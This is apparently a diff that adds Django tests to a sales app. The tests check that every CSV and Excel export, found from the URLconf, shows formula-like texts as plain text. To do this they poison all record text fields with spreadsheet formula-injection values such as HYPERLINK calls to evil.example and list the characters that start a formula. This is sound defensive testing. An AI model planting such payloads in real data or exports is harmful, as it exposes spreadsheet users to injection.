@@ -133,3 +133,251 @@ def test_a_customer_named_like_a_formula_is_a_text_cell_in_excel(org_tree):
 
     names = [c for c in xlsx_cells(response.content) if c.value == ATTACK]
     assert names and all(c.data_type == "s" for c in names)
+
+
+@pytest.mark.django_db
+def test_the_audit_export_command_neutralises_a_name_like_a_formula(org_tree, tmp_path):
+    """The compliance CSV of `salesorg audit-export` is opened in spreadsheets too."""
+    from django.core.management import call_command
+
+    rep = org_tree.people["rep_east1a"]
+    rep.name = ATTACK
+    rep.save()
+    customer = CustomerFactory(owner=rep, name="客户")
+    customer.name = "新客户名"
+    customer._history_user = rep.user
+    customer.save()
+    out = tmp_path / "audit.csv"
+
+    call_command("audit_export", str(out), since="2000-01-01", stdout=io.StringIO())
+
+    rows = list(csv.reader(out.open(encoding="utf-8")))
+    assert any(row[3].startswith("'" + ATTACK) for row in rows) and not evaluated_csv_cells(rows)
+
+
+# --- every export, found from the URLconf -------------------------------------------------------
+
+# A view is an export when it reads ?format= or serves a list page's CSV (core.listing).
+EXPORT_MARKERS = ('"format"', "list_response(")
+# Routes with parameters: the paths to fetch, from the records. A new export route with a
+# parameter fails test_every_export_route_can_be_fetched until it is added here.
+ROUTE_PATHS = {
+    "performance/dashboards/<slug:slug>/": lambda records: [
+        f"/performance/dashboards/{board.slug}/" for board in _dashboards()
+    ],
+    "performance/scorecards/<int:pk>/": lambda records: [
+        f"/performance/scorecards/{period.pk}/" for period in _scorecard_periods()
+    ],
+    "audit/<slug:app_label>/<slug:model_name>/<int:object_id>/history/": lambda records: [
+        f"/audit/sales/visit/{records.visits['rep_east1a'].pk}/history/",
+        f"/audit/customers/customer/{records.customers['rep_east1a'].pk}/history/",
+    ],
+}
+
+
+def _both_formats(query: str) -> list[str]:
+    return [f"{query}&format=csv", f"{query}&format=xlsx"]
+
+
+# Queries beyond the page's own download links: the funnel's items of each status, and
+# periods that hold the records (visits of 2026-01-15, surveys of 2026-02).
+EXTRA_QUERIES = {
+    "customers/pipeline/funnel/": [
+        url for status in ("open", "won", "lost") for url in _both_formats(f"status={status}")
+    ],
+    "customers/satisfaction/": _both_formats("start=2026-01-01&end=2026-12-31"),
+    "sales/visits/compliance/": _both_formats("from=2026-01-01&to=2026-12-31"),
+    "sales/visits/compliance/skipped/": _both_formats("from=2026-01-01&to=2026-12-31"),
+}
+# Whose login fetches the exports: the first of these the page answers 200 for.
+VIEWERS = ("director", "admin", "finance", "trainer", "manager_east1")
+
+
+def _dashboards():
+    from salesorg.performance.charts.tables import DASHBOARDS
+
+    return DASHBOARDS
+
+
+def _scorecard_periods():
+    from salesorg.performance.models import ScorecardPeriod
+
+    return ScorecardPeriod.objects.all()
+
+
+def _routes(resolver=None, prefix=""):
+    from django.urls import URLResolver, get_resolver
+
+    for entry in (resolver or get_resolver()).url_patterns:
+        if isinstance(entry, URLResolver):
+            yield from _routes(entry, prefix + str(entry.pattern))
+        else:
+            yield prefix + str(entry.pattern), entry
+
+
+def export_routes() -> list[str]:
+    """Every route whose view offers a CSV or Excel download."""
+    import inspect
+
+    found = []
+    for route, pattern in _routes():
+        if route.startswith(("admin/", "api/")):
+            continue
+        view = getattr(pattern.callback, "view_class", None) or inspect.unwrap(pattern.callback)
+        source = inspect.getsource(view)
+        if any(marker in source for marker in EXPORT_MARKERS):
+            found.append(route)
+    return found
+
+
+def test_the_exports_are_found_from_the_urlconf():
+    routes = set(export_routes())
+    assert {
+        "customers/",
+        "sales/visits/",
+        "targets/research/",
+        "org/people/",
+        "performance/kpi/",
+        "performance/dashboards/<slug:slug>/",
+        "performance/scorecards/<int:pk>/",
+        "audit/<slug:app_label>/<slug:model_name>/<int:object_id>/history/",
+        "customers/pipeline/funnel/",
+    } <= routes
+    assert all("<" not in route or route in ROUTE_PATHS for route in routes), (
+        "an export route with a parameter: add its paths to ROUTE_PATHS"
+    )
+
+
+def test_no_export_writes_a_spreadsheet_outside_core_exports():
+    """Every CSV and workbook is written by core.exports, so no export can forget the rule.
+
+    The interchange files are the exception: a machine format read back by the importer
+    (docs/security.md, Exports)."""
+    from pathlib import Path
+
+    import salesorg
+
+    root = Path(salesorg.__file__).parent
+    allowed = {root / "core" / "exports.py", root / "interchange" / "csvio.py"}
+    writers = ("csv.writer", "csv.DictWriter", "openpyxl", "Workbook(", "text/csv", "spreadsheetml")
+    offenders = [
+        f"{path.relative_to(root)}: {needle}"
+        for path in root.rglob("*.py")
+        if path not in allowed and "migrations" not in path.parts
+        for needle in writers
+        if needle in path.read_text(encoding="utf-8")
+    ]
+    assert offenders == []
+
+
+FORMULA_STARTS_FOR_TEST = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _poison_every_text():
+    """Every free text of every SalesOrg record starts like a formula (a `HYPERLINK`)."""
+    from django.apps import apps
+    from django.db import models
+
+    for model in apps.get_models():
+        if not model.__module__.startswith("salesorg.") or model._meta.proxy:
+            continue
+        fields = [
+            field
+            for field in model._meta.concrete_fields
+            if isinstance(field, models.CharField | models.TextField)
+            and not field.choices
+            and not field.primary_key
+        ]
+        if not fields:
+            continue
+        for pk in model._base_manager.values_list("pk", flat=True):
+            values = {}
+            for number, field in enumerate(fields):
+                start = FORMULA_STARTS_FOR_TEST[(number + pk) % len(FORMULA_STARTS_FOR_TEST)]
+                value = f'{start}HYPERLINK("evil.example?{pk}")'
+                values[field.attname] = value[: field.max_length] if field.max_length else value
+            model._base_manager.filter(pk=pk).update(**values)
+
+
+def _download_links(html: str, path: str) -> set[str]:
+    """The page's own CSV and Excel links (every dashboard table has one)."""
+    import html as html_module
+    import re
+    from urllib.parse import urljoin
+
+    links = set()
+    for href in re.findall(r'href="([^"]*format=(?:csv|xlsx)[^"]*)"', html):
+        links.add(urljoin(path, html_module.unescape(href)))
+    return links
+
+
+def _check_download(response, url: str) -> tuple[list[str], bool]:
+    """(cells a spreadsheet would evaluate, whether a poisoned text was in the file)."""
+    kind = response["Content-Type"]
+    if kind.startswith("text/csv"):
+        rows = csv_rows(response)
+        cells = [cell for row in rows for cell in row]
+        return evaluated_csv_cells(rows), any("HYPERLINK" in cell for cell in cells)
+    assert kind.startswith("application/vnd.openxmlformats"), (url, kind)
+    cells = xlsx_cells(response.content)
+    formulas = [f"{cell.coordinate}: {cell.value}" for cell in cells if cell.data_type == "f"]
+    return formulas, any("HYPERLINK" in str(cell.value) for cell in cells)
+
+
+@pytest.mark.django_db
+def test_every_export_shows_formula_looking_texts_as_text(org_tree, org_records):
+    """Each export found in the URLconf, fetched as someone who may see it, in every format it
+    offers: no cell is evaluated, and the poisoned texts are there (as text)."""
+    _records_to_show(org_records)
+    _poison_every_text()
+    clients = {key: org_tree.client(key) for key in VIEWERS}
+    problems, unseen = [], []
+    for route in export_routes():
+        paths = ROUTE_PATHS[route](org_records) if "<" in route else ["/" + route]
+        seen = False
+        for path in paths:
+            viewer = next(
+                (client for client in clients.values() if client.get(path).status_code == 200),
+                None,
+            )
+            assert viewer is not None, f"nobody may see {path}"
+            page = viewer.get(path)
+            urls = {f"{path}?format=csv", f"{path}?format=xlsx"}
+            urls |= _download_links(page.content.decode(), path)
+            urls |= {f"{path}?{query}" for query in EXTRA_QUERIES.get(route, [])}
+            downloads = 0
+            for url in sorted(urls):
+                response = viewer.get(url)
+                if "attachment" not in response.get("Content-Disposition", ""):
+                    continue
+                assert response.status_code == 200, url
+                downloads += 1
+                evaluated, poisoned = _check_download(response, url)
+                problems += [f"{url}: {cell!r}" for cell in evaluated]
+                seen = seen or poisoned
+            assert downloads, f"{path} offers no download"
+        if not seen:
+            unseen.append(route)
+    assert problems == []
+    assert not unseen, f"exports without any record text (add records to the test): {unseen}"
+
+
+def _records_to_show(org_records):
+    """A change in a visit's history, a skipped required step and a customer's own survey
+    answer, so that the history, compliance and satisfaction exports have rows (their texts
+    are poisoned with the rest)."""
+    from salesorg.customers.choices import SurveySource
+    from salesorg.customers.models import SatisfactionSurvey
+    from salesorg.sales.models import ChecklistStep, VisitStep
+
+    visit = org_records.visits["rep_east1a"]
+    visit.purpose = ATTACK
+    visit.save()
+    step = ChecklistStep.objects.create(purpose=org_records.purpose, position=2, text="报价")
+    VisitStep.objects.create(visit=visit, step=step, done=False, skip_reason="客户不在")
+    SatisfactionSurvey.objects.create(
+        customer=visit.customer,
+        surveyed_on=visit.visit_date,
+        overall=4,
+        source=SurveySource.CUSTOMER,
+    )
